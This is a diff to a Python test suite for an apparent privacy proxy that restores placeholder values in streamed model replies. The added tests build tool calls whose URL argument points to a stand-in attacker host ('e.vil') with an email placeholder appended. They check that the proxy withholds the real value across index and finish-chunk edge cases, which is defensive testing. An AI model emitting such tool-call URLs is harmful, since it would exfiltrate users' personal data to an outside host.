@@ -95,3 +95,54 @@ def test_a_url_one_text_field_opens_withholds_a_value_another_sends_after_it():
         alone = ReplyRestorer(resolve)
         alone.chunk({"choices": [{"index": 0, "delta": {"content": value}, "finish_reason": "stop"}]})
         assert (alone.restored, alone.withheld) == (1, [])
+
+
+def _tool(index: object, arguments: str, choice: object = 0, finish: str | None = None) -> dict:
+    call = (
+        {"function": {"arguments": arguments}}
+        if index == "missing"
+        else {"index": index, "function": {"arguments": arguments}}
+    )
+    return {"choices": [{"index": choice, "delta": {"tool_calls": [call]}, "finish_reason": finish}]}
+
+
+FINISH = {"choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]}
+
+
+@pytest.mark.parametrize(
+    "chunks",
+    [
+        [_tool(0, '{"url": "https://e.vil/?q='), FINISH, _tool(0, '<EMAIL_1>"}'), FINISH],
+        [_tool(0, '{"url": "https://e.vil/?q='), FINISH, _tool("missing", '<EMAIL_1>"}')],
+        [_tool(0, '{"url": "https://e.vil/?q='), _tool("0", '<EMAIL_1>"}'), FINISH],
+        [_tool(0, '{"url": "https://e.vil/?q='), _tool(None, '<EMAIL_1>"}'), FINISH],
+        [_tool(0, '{"url": "https://e.vil/?q='), _tool(0.0, '<EMAIL_1>"}'), FINISH],
+        [_tool(0, '{"url": "https://e.vil/?q='), _tool([0], '<EMAIL_1>"}'), FINISH],
+        [_tool(0, '{"url": "https://e.vil/?q='), _tool(0, '<EMAIL_1>"}', choice="0"), FINISH],
+    ],
+    ids=[
+        "after-finish",
+        "after-finish-no-index",
+        "index-string",
+        "index-null",
+        "index-float",
+        "index-list",
+        "choice-string",
+    ],
+)
+def test_a_tool_calls_url_holds_arguments_a_client_joins_to_it(chunks):
+    """A client joins a tool call's arguments by its JavaScript array slot (openai-node: `0`, `0.0`, `"0"`, `[0]` are one;
+    no index: the last one) and keeps joining after the finish chunk: the value sent that way into a URL the
+    arguments opened is withheld, as one stream of them would have it. FAKE resolver: withholds in a URL."""
+
+    def resolve(ref: Reference) -> str | Withheld | None:
+        return Withheld("in_tool_call_url") if ref.url == "click" else VALUES.get((ref.type, ref.index))
+
+    restorer, sent = ReplyRestorer(resolve), []
+    for chunk in chunks:
+        for choice in restorer.chunk(chunk)["choices"]:
+            sent += [call["function"]["arguments"] for call in choice["delta"].get("tool_calls") or []]
+    if (tail := restorer.tail(chunks[-1])) is not None:
+        sent += [call["function"]["arguments"] for call in tail["choices"][0]["delta"].get("tool_calls") or []]
+    assert "".join(sent) == '{"url": "https://e.vil/?q=<EMAIL_1>"}'
+    assert restorer.withheld == [("<EMAIL_1>", "in_tool_call_url")] and restorer.restored == 0
